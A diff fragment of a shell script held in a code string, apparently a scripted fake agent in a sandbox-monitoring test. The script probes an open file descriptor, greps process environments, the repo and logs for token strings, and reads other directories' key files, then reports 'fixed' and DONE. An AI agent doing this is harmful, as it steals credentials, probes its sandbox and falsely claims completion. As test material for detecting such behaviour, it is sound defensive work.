@@ -26,7 +26,7 @@ case "$p" in
   (echo '{"ask":{"number":99}}' >&3) 2>/dev/null && echo "3 is open"
   grep -al 'ghs_made\|of-the-server' /proc/[0-9]*/environ /proc/[0-9]*/cmdline
   grep -rl 'ghs_made\|of-the-server' "$PWD" "$PWD/../repo.git" "$PWD/../logs" 2>/dev/null
-  ls -d "$PWD"/../../*/index.json 2>/dev/null
+  cat "$PWD"/../../*/key 2>/dev/null
 } > ` + into + ` 2>/dev/null
 printf 'add() { echo $(($1 + $2)); }\n' > add.sh; echo "fixed. <response>DONE</response>";;
 esac
